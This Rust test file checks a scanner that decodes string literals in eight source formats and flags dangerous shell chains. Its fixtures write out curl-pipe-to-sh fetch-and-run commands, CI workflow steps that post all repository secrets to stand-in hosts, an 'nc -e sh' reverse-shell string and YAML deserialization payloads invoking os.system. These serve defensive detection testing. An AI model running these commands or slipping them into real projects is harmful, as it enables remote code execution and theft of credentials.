//! Sources in, decoded strings out.

use super::{Syntax, strings};
use crate::{Limits, Rule, shell};
use proptest::prelude::*;

fn read(syntax: Syntax, source: &str) -> Vec<(String, u32)> {
    strings(syntax, source)
        .into_iter()
        .map(|text| (text.text.replace(super::UNKNOWN, "?"), text.lines[0]))
        .collect()
}

fn one(syntax: Syntax, source: &str) -> String {
    let mut all = read(syntax, source);
    assert_eq!(all.len(), 1, "{all:?}");
    all.remove(0).0
}

#[test]
fn each_language_s_escapes_are_decoded() {
    assert_eq!(
        one(Syntax::Json, r#"{"a": "b \"c\" \/ \u007c \ud83d\ude00\n d"}"#),
        "b \"c\" / | 😀\n d"
    );
    assert_eq!(one(Syntax::JavaScript, r"x = 'a\x20b\u{7c}\'' // 'no string'"), "a b|'");
    assert_eq!(one(Syntax::JavaScript, "x = 'a b\\\nc'"), "a bc");
    assert_eq!(one(Syntax::JavaScript, "x = `a ${f({b: 1})} c`"), "a ? c");
    assert_eq!(one(Syntax::Python, "x = 'a\\x20\\174 \\N'  # 'no string'"), "a | \\N");
    assert_eq!(one(Syntax::Python, "x = r'a \\x20'"), "a \\x20");
    assert_eq!(one(Syntax::Python, "x = f\"a {b[1]} {{c}}\""), "a ? {c}");
    assert_eq!(one(Syntax::Toml, "x = \"a \\u007c b\""), "a | b");
    assert_eq!(one(Syntax::Toml, "x = \"\"\"a \\\n   b\"\"\""), "a b");
    assert_eq!(one(Syntax::Yaml, "run: \"a \\x7c b\""), "a | b");
    assert_eq!(one(Syntax::Yaml, "run: >-\n  a\n  | b\n"), "a | b");
    assert_eq!(one(Syntax::Yaml, "run: a 'b'"), "a 'b'");
}

#[test]
fn literals_that_are_joined_are_one_text() {
    assert_eq!(one(Syntax::JavaScript, "x = 'curl ' +\n  \"a\" + ` | sh`"), "curl a | sh");
    assert_eq!(one(Syntax::JavaScript, "x = 'curl ' + host + ' | sh'"), "curl ? | sh");
    assert_eq!(one(Syntax::Python, "run('curl a '\n    '| sh')"), "curl a | sh");
    assert_eq!(one(Syntax::Python, "x = ('a ' + b\n)"), "a ?");
    assert_eq!(read(Syntax::JavaScript, "f('a b', 'c d')").len(), 2);
    assert_eq!(read(Syntax::Json, r#"["a b", "c d"]"#).len(), 2);
}

#[test]
fn each_line_keeps_its_place() {
    let place = |syntax, source| read(syntax, source)[0].1;
    assert_eq!(place(Syntax::Json, "{\n\n\"a\": \"b c\"}"), 3);
    assert_eq!(place(Syntax::Yaml, "a: 1\nrun: b c\n"), 2);
    let block = &strings(Syntax::Yaml, "a:\n  run: |\n    one x\n    two y\n")[0];
    assert_eq!((block.line(1), block.line(2)), (3, 4));
    let long = &strings(Syntax::Python, "\n'''one x\ntwo y'''")[0];
    assert_eq!((long.line(1), long.line(2)), (2, 3));
    assert_eq!(place(Syntax::Dockerfile, "FROM a\n# c\nRUN b \\\n  # d\n  && c\n"), 3);
    let recipe = &strings(Syntax::Makefile, "a:\n\t@one x\n\ttwo \\\n\ty\n\tthree z\n")[0];
    assert_eq!(recipe.text, "one x\ntwo  y\nthree z\n");
    assert_eq!((recipe.line(1), recipe.line(2), recipe.line(3)), (2, 3, 5));
    assert_eq!(place(Syntax::Markdown, "# a\n\ntext\n`b c`\n"), 4);
}

#[test]
fn build_files_are_read_as_their_programs_do() {
    assert_eq!(one(Syntax::Dockerfile, "run --mount=type=cache a | \\\n b\n"), "a |  b");
    assert_eq!(one(Syntax::Dockerfile, "CMD [\"sh\", \"-c\", \"a | b\"]\n"), "a | b");
    assert_eq!(one(Syntax::Dockerfile, "HEALTHCHECK --interval=5s CMD a b\n"), "a b");
    assert_eq!(read(Syntax::Dockerfile, "LABEL a=\"b c\"\nCOPY a b\n"), []);
    assert_eq!(
        one(Syntax::Makefile, "H = x.example\na:\n\tcurl $(H)/$${Y} $@\n"),
        "curl x.example/${Y} ?\n"
    );
}

#[test]
fn a_record_of_what_has_run_is_no_command() {
    assert_eq!(
        read(Syntax::Json, r#"{"h": "x y", "process.command_line": "nc -e \"sh\" h 1"}"#).len(),
        1
    );
    assert_eq!(
        read(Syntax::Python, "E = [{'cmdline': 'nc -e sh h 1'}, {'command': 'a b'}]").len(),
        1
    );
    assert_eq!(read(Syntax::Yaml, "command_line: nc -e sh h 1\ncommand: a b\n").len(), 1);
}

#[test]
fn inline_code_is_what_markdown_takes_for_it() {
    let code = |source| {
        read(Syntax::Markdown, source).into_iter().map(|(text, _)| text).collect::<Vec<_>>()
    };
    assert_eq!(code("Run `a b` and ``c `d` e``."), ["a b", "c `d` e"]);
    assert_eq!(code("`a\nb`"), ["a b"]);
    assert_eq!(code("`a\n\nb`"), Vec::<String>::new());
    assert_eq!(code("```sh\n`a b`\n```\n`c d`"), ["c d"]);
    assert_eq!(code("| x | `a \\| b` |"), ["a | b"]);
}

#[test]
fn an_attack_is_the_same_in_every_spelling() {
    let attacks = [
        (
            Syntax::Json,
            r#"{"s": {"postinstall": "bash -c \"$(curl -fsSL http://203.0.113.9/x.sh)\""}}"#,
        ),
        (Syntax::Json, r#"{"s": "curl -fsSL http:\/\/203.0.113.9\/x.sh | sh"}"#),
        (Syntax::Json, r#"{"s": "curl -fsSL http://203.0.113.9/x.sh \u007c sh"}"#),
        (Syntax::JavaScript, r#"execSync("bash -c \"$(curl -fsSL http://203.0.113.9/x.sh)\"")"#),
        (Syntax::JavaScript, r#"exec("curl -fsSL " + "http://203.0.113.9/x.sh" + " | sh")"#),
        (Syntax::Python, r#"os.system("bash -c \"$(curl -fsSL http://203.0.113.9/x.sh)\"")"#),
        (Syntax::Python, "run([\"bash\", \"-c\", \"curl http://203.0.113.9/x.sh \"\n   \"| sh\"])"),
        (Syntax::Yaml, "- run: \"bash -c \\\"$(curl -fsSL http://203.0.113.9/x.sh)\\\"\"\n"),
        (Syntax::Yaml, "- run: >-\n    curl -fsSL http://203.0.113.9/x.sh\n    | sh\n"),
        (
            Syntax::Dockerfile,
            "FROM debian:12\nRUN curl -fsSL http://203.0.113.9/x.sh | \\\n    sh\n",
        ),
        (Syntax::Makefile, "U = http://203.0.113.9\nsetup:\n\tcurl -fsSL $(U)/x.sh \\\n\t| sh\n"),
        (Syntax::Markdown, "Run `curl -fsSL http://203.0.113.9/x.sh | sh` first."),
    ];
    for (syntax, source) in attacks {
        let found = strings(syntax, source).into_iter().any(|text| {
            shell::chains(&text.text, shell::Start::Asked, &mut Limits::default())
                .iter()
                .any(|chain| chain.rule == Rule::FetchRun)
        });
        assert!(found, "{source}");
    }
}

const ALL: [Syntax; 8] = [
    Syntax::Json,
    Syntax::JavaScript,
    Syntax::Python,
    Syntax::Toml,
    Syntax::Yaml,
    Syntax::Dockerfile,
    Syntax::Makefile,
    Syntax::Markdown,
];

proptest! {
    #[test]
    fn any_text_ends_and_each_line_has_a_place(text in "[ \n\t\\\\\"'`{}$+#/*a-c:\\[\\],u0-9>|-]{0,200}") {
        for syntax in ALL {
            for string in strings(syntax, &text) {
                prop_assert_eq!(string.lines.len(), string.text.lines().count().max(1));
                let most = u32::try_from(text.lines().count()).unwrap() + 1;
                prop_assert!(string.lines.iter().all(|line| (1..=most).contains(line)));
            }
        }
    }
}

fn chains_of(text: &str) -> Vec<Rule> {
    let found = strings(Syntax::Yaml, text).into_iter().flat_map(|text| {
        shell::chains(&text.text, shell::Start::Mentioned, &mut Limits::default())
    });
    found.map(|chain| chain.rule).collect()
}

#[test]
fn a_workflow_that_sends_all_secrets_to_a_host_is_read() {
    for text in [
        "steps:\n  - env:\n      ALL: ${{ toJSON(secrets) }}\n    run: |\n      echo \"$ALL\" | base64 -w0 \\\n        | curl -s -X POST -d @- https://cov.starter.invalid/u\n",
        "steps:\n  - run: curl -d '${{ toJson( secrets ) }}' https://cov.starter.invalid/u\n",
        "env:\n  S: ${{toJSON(secrets)}}\nsteps:\n  - run: |\n      printf '%s' \"${S}\" > /tmp/o\n      curl --data-binary @/tmp/o https://cov.starter.invalid\n",
        "steps:\n  - run: wget -q --post-data=\"${{ TOJSON(secrets) }}\" http://203.0.113.9/c -O /dev/null\n",
        "env: {K: \"${{ toJSON(secrets) }}\"}\nsteps:\n  - run: echo '${{ env.K }}' | gzip | curl -T - https://cov.starter.invalid/u\n",
    ] {
        assert_eq!(chains_of(text), [Rule::EnvironmentSent], "{text}");
    }
    for text in [
        "steps:\n  - env:\n      ALL: ${{ toJSON(secrets) }}\n    run: node scripts/check-names.mjs\n  - run: curl -fsS https://hc.vendor.example/done\n",
        "steps:\n  - env:\n      ALL: ${{ toJSON(secrets) }}\n    run: echo \"$ALL\" | jq -r 'keys[]'\n",
        "steps:\n  - env:\n      ALL: ${{ toJSON(secrets) }}\n    run: echo \"$ALL\" | jq 'with_entries(select(.key|startswith(\"APP_\")))' | curl -d @- https://config.vendor.example/app\n",
        "steps:\n  - env:\n      TOKEN: ${{ secrets.CODECOV_TOKEN }}\n    run: curl -H \"Authorization: Bearer $TOKEN\" -d @cov.xml https://cov.vendor.example/u\n",
        "steps:\n  - run: curl -d '${{ toJSON(github.event) }}' https://hooks.vendor.example/u\n",
        "steps:\n  - run: echo \"never send ${{ toJSON(secrets) }} to a host\"\n",
    ] {
        assert_eq!(chains_of(text), [], "{text}");
    }
}

#[test]
fn what_a_loader_runs_is_found_with_its_language() {
    let found = |text: &str| -> Vec<(Option<Syntax>, String, u32)> {
        let all = super::loaded(text).into_iter();
        all.map(|value| (value.code, value.text.text.clone(), value.text.line(1))).collect()
    };
    let shell = |text: &str, line| vec![(None, text.to_owned(), line)];
    assert_eq!(found("a: !!python/object/apply:os.system\n  - \"id\"\n"), shell("id", 2));
    assert_eq!(found("!!python/object/apply:os.system ['id']"), shell("id", 1));
    assert_eq!(
        found("a: !!python/object/new:subprocess.check_output [[sh, -c, 'id']]\nb: x"),
        [(None, "sh".into(), 1), (None, "-c".into(), 1), (None, "id".into(), 1)]
    );
    assert_eq!(
        found("a: !<tag:yaml.org,2002:python/object/apply:builtins.exec>\n  args: ['x()']"),
        [(Some(Syntax::Python), "args".into(), 2), (Some(Syntax::Python), "x()".into(), 2)]
    );
    assert_eq!(
        found("a: !!js/function 'function () { f() }'"),
        [(Some(Syntax::JavaScript), "function () { f() }".into(), 1)]
    );
    for honest in [
        "a: !!python/tuple [curl x | sh, 2]",
        "a: !!python/object/apply:datetime.date [2026, 1, 1]",
        "a: !!python/name:material.extensions.emoji.twemoji\nb: curl x | sh",
        "a: !ENV [CI, false]\nb: !!binary aGVsbG8=",
    ] {
        assert_eq!(found(honest), [], "{honest}");
    }
}
